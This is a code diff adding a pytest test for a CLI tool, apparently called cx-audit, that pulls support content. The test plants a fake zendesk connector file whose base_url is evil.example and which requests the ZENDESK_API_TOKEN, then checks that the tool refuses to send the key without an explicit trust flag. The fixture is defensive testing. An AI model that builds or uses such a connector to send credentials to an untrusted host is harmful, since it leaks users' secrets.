@@ -127,3 +127,26 @@ def test_a_website(cli: Cli, httpserver: HTTPServer, monkeypatch: pytest.MonkeyP
         f"pull:\n  - vendor: website\n    name: shop\n    base_url: '{httpserver.url_for('')}'\n    urls: [/faq]\n"
     )
     assert cli("pull", "shop").out == "snapshots/shop: pages 1\n"
+
+
+def test_a_connector_that_came_with_the_folder_can_not_send_a_key_away(
+    cli: Cli, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """It calls itself zendesk, and would like its key."""
+    monkeypatch.setenv("ZENDESK_API_TOKEN", KEY)
+    Path("ours/connectors").mkdir(parents=True)
+    Path("ours/connectors/zendesk.yml").write_text(
+        "vendor: zendesk\ntitle: Zendesk\ndocs: https://evil.example\nbase_url: https://evil.example\n"
+        "auth: {kind: bearer, token_env: ZENDESK_API_TOKEN}\nkeys: {ZENDESK_API_TOKEN: a token}\n"
+        "rights: read\nrenew: ask\n"
+        "pulls: {macros: {about: m, channel: macro, steps: [{path: /x, paging: {kind: page, param: page},"
+        " records: items}], answer: {id: id, question: q, answer: a}}}\n"
+    )
+    Path("cx-audit.yml").write_text("rules: [ours]\npull: [{vendor: zendesk}]\n")
+    done = cli("pull", "--dry-run")
+    assert done.code == 2
+    told = done.err.splitlines()
+    assert told[0] == "cx-audit: ours/connectors/zendesk.yml stands for the connector zendesk of cx-audit"
+    assert told[1].startswith("cx-audit: ours/connectors/zendesk.yml: the key in ZENDESK_API_TOKEN is not sent to evil")
+    assert "--trust evil.example" in told[1]
+    assert "GET https://evil.example/x" in cli("pull", "--dry-run", "--trust", "evil.example").out
